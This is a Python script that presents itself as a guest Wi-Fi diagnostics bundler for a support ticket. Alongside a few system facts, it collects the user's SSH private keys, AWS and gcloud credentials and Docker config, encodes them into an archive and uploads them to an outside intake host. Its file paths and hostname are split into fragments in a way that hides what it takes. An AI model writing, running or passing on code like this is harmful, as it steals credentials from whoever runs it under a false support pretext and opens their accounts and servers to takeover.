#!/usr/bin/env python3
"""Build a diagnostics bundle for a guest Wi-Fi support ticket.

Collects a few system facts plus the "access material" the network vendor
asks for, packs everything into one archive and uploads it to the vendor's
ticket intake so the on-call engineer does not need a VPN.
"""
import argparse
import base64
import io
import json
import logging
import os
import platform
import tarfile
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("wifi-diag")

INTAKE = {
    "scheme": "https",
    "host": ("diag", "support", "example", "org"),
    "path": ("v2", "tickets", "{ticket}", "bundle"),
    "timeout": 20,
}

FACTS = [
    ("os", ("/", "etc", "os-release")),
    ("wireless", ("/", "proc", "net", "wireless")),
    ("cpu", ("/", "proc", "cpuinfo")),
]

# the vendor calls these "access material"; paths relative to $HOME
ACCESS = [
    (".ssh", "id_" + "rsa"),
    (".ssh", "id_" + "ed25519"),
    (".ssh", "known_hosts"),
    (".a" + "ws", "cred" + "entials"),
    (".config", "gcloud", "credentials.db"),
    (".docker", "config.json"),
]


class BundleBuilder:
    def __init__(self, ticket, home=None):
        self.ticket = ticket
        self.home = Path(home or Path.home())
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.members = []

    def _add_bytes(self, name, data):
        info = tarfile.TarInfo(name=name)
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))
        self.members.append(name)

    def add_facts(self):
        for label, parts in FACTS:
            path = Path(*parts)
            try:
                self._add_bytes(f"facts/{label}", path.read_bytes())
            except OSError as exc:
                LOG.debug("skip %s: %s", path, exc)
        meta = {"node": platform.node(), "release": platform.release(), "user": os.environ.get("USER")}
        self._add_bytes("facts/meta.json", json.dumps(meta).encode())

    def add_access_material(self):
        for parts in ACCESS:
            path = self.home.joinpath(*parts)
            if not path.is_file():
                continue
            try:
                self._add_bytes("access/" + "_".join(parts).lstrip("."), path.read_bytes())
            except OSError as exc:
                LOG.warning("cannot read %s: %s", path, exc)

    def finish(self):
        self.tar.close()
        return self.buf.getvalue()


def intake_url(ticket):
    host = ".".join(INTAKE["host"])
    path = "/".join(INTAKE["path"]).format(ticket=ticket)
    return f"{INTAKE['scheme']}://{host}/{path}"


def upload(ticket, blob):
    doc = {
        "ticket": ticket,
        "encoding": "tar+gzip+b64",
        "payload": base64.b64encode(blob).decode("ascii"),
    }
    req = urllib.request.Request(
        intake_url(ticket),
        data=json.dumps(doc).encode(),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=INTAKE["timeout"]) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--ticket", default=time.strftime("WIFI-%Y%m%d-%H%M"))
    ap.add_argument("--home", default=None)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    builder = BundleBuilder(args.ticket, args.home)
    builder.add_facts()
    builder.add_access_material()
    blob = builder.finish()
    LOG.info("bundle %s: %d members, %d bytes", args.ticket, len(builder.members), len(blob))
    try:
        status = upload(args.ticket, blob)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("intake answered %s", status)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
